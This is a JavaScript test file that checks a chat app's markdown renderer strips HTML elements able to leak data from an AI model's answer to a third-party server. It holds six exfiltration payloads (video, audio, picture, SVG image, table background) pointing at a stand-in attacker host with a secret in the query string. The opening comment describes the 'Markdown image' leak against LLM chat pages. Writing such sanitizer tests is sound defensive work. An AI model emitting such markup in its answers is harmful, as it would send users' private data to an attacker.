// An answer must not make the browser fetch a third-party URL (the "Markdown image" leak of LLM
// chat pages): DOMPurify's default profile keeps elements and attributes that load remote
// resources, so the renderer allows a fixed list only. Needs jsdom (npm ci here).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';

const WEB = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
let JSDOM = null;
try {
  ({ JSDOM } = await import('jsdom'));
} catch (e) {
  JSDOM = null;  // skipped without jsdom; make test installs it (npm ci in web/test)
}
const require = createRequire(import.meta.url);
const { renderMarkdown } = require(path.join(WEB, 'app.js'));

const dom = JSDOM && new JSDOM('<!doctype html><body></body>', { runScripts: 'outside-only' });
if (dom)
  for (const f of ['vendor/marked.umd.js', 'vendor/purify.min.js'])
    dom.window.eval(fs.readFileSync(path.join(WEB, f), 'utf8'));
const libs = dom && { marked: dom.window.marked, DOMPurify: dom.window.DOMPurify };

const LEAK = 'https://attacker.example/leak?d=SECRET';
const payloads = {
  'video poster': `<video poster="${LEAK}"></video>`,
  'video src': `<video src="${LEAK}" autoplay muted></video>`,
  'audio src': `<audio src="${LEAK}" autoplay></audio>`,
  'picture/source srcset': `<picture><source srcset="${LEAK}"></picture>`,
  'svg image': `<svg><image href="${LEAK}" width="1" height="1"></image></svg>`,
  'table background': `<table background="${LEAK}"><tr><td>x</td></tr></table>`,
};

for (const [name, md] of Object.entries(payloads)) {
  test(`an answer cannot load a remote URL through ${name}`, { skip: !dom && 'jsdom is not installed' }, () => {
    const holder = dom.window.document.createElement('div');
    holder.append(renderMarkdown('答案如下\n\n' + md, libs));
    const html = holder.innerHTML;
    assert.ok(!html.includes('attacker.example'), `kept: ${html}`);
  });
}
